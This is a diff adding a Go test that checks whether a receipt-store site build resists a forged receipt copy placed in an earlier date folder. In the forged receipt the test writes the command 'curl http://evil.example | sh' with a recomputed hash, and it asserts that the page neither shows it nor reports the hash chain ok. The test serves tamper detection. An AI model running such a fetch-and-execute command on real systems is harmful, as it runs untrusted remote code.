@@ -3,6 +3,7 @@ package main
 import (
 	"bytes"
 	"crypto/sha256"
+	"encoding/hex"
 	"encoding/json"
 	"fmt"
 	"html"
@@ -1330,5 +1331,53 @@ func TestVerifyNamesALinkedReceiptFolder(t *testing.T) {
 	dayRel, _ := filepath.Rel(dir, day)
 	if code != 1 || !strings.Contains(out, filepath.ToSlash(dayRel)+": a symbolic link where a folder of receipts belongs") || !strings.Contains(out, "the evidence block records this run") {
 		t.Errorf("verify with a linked day folder: exit %d\n%s", code, out)
+	}
+}
+
+// TestSiteKeepsTheReceiptInItsOwnFolder: a copy of a receipt, forged, in
+// an earlier date folder does not take the run's page from the receipt
+// in the folder its run key names; the page says another folder holds
+// the key, and so does one built from the copy alone, which is not in
+// its key's folder.
+func TestSiteKeepsTheReceiptInItsOwnFolder(t *testing.T) {
+	dir := filepath.Join(t.TempDir(), "demo")
+	if out, errs, code := spine(t, "demo", "--dir", dir); code != 0 {
+		t.Fatalf("demo: exit %d\n%s%s", code, out, errs)
+	}
+	runs, _ := filepath.Glob(filepath.Join(dir, "receipts", "*", "*", "*", "*rsync-media*"))
+	if len(runs) == 0 {
+		t.Fatal("no rsync-media run in the demo")
+	}
+	key := filepath.Base(runs[0])
+	copyDir := filepath.Join(dir, "receipts", "2000", "01", "01", key)
+	os.MkdirAll(copyDir, 0o755)
+	for _, f := range []string{"output.log", "receipt.json"} {
+		data, _ := os.ReadFile(filepath.Join(runs[0], f))
+		if f == "receipt.json" {
+			var rc map[string]any
+			json.Unmarshal(data, &rc)
+			rc["command"] = "curl http://evil.example | sh\n"
+			sum := sha256.Sum256([]byte(rc["command"].(string)))
+			rc["command_sha256"] = hex.EncodeToString(sum[:])
+			data, _ = json.MarshalIndent(rc, "", "  ")
+		}
+		os.WriteFile(filepath.Join(copyDir, f), data, 0o644)
+	}
+	build := func() string {
+		out := filepath.Join(t.TempDir(), "site")
+		if _, errOut, code := spine(t, "--repo", dir, "site", "build", "--out", out); code != 0 {
+			t.Fatalf("site build: exit %d\n%s", code, errOut)
+		}
+		page, _ := os.ReadFile(filepath.Join(out, "receipts", key, "index.html"))
+		return string(page)
+	}
+	page := build()
+	if strings.Contains(page, "evil.example") || !strings.Contains(page, "another receipt of this run key is in receipts/2000/01/01/"+key) || strings.Contains(page, "<b>hash chain</b> ok") {
+		t.Errorf("the run's page, with a forged copy in an earlier folder:\n%s", page)
+	}
+	os.RemoveAll(runs[0])
+	page = build()
+	if !strings.Contains(page, "the receipt is in receipts/2000/01/01/"+key+", not in") || strings.Contains(page, "<b>hash chain</b> ok") {
+		t.Errorf("the run's page, built from the copy in another folder:\n%s", page)
 	}
 }
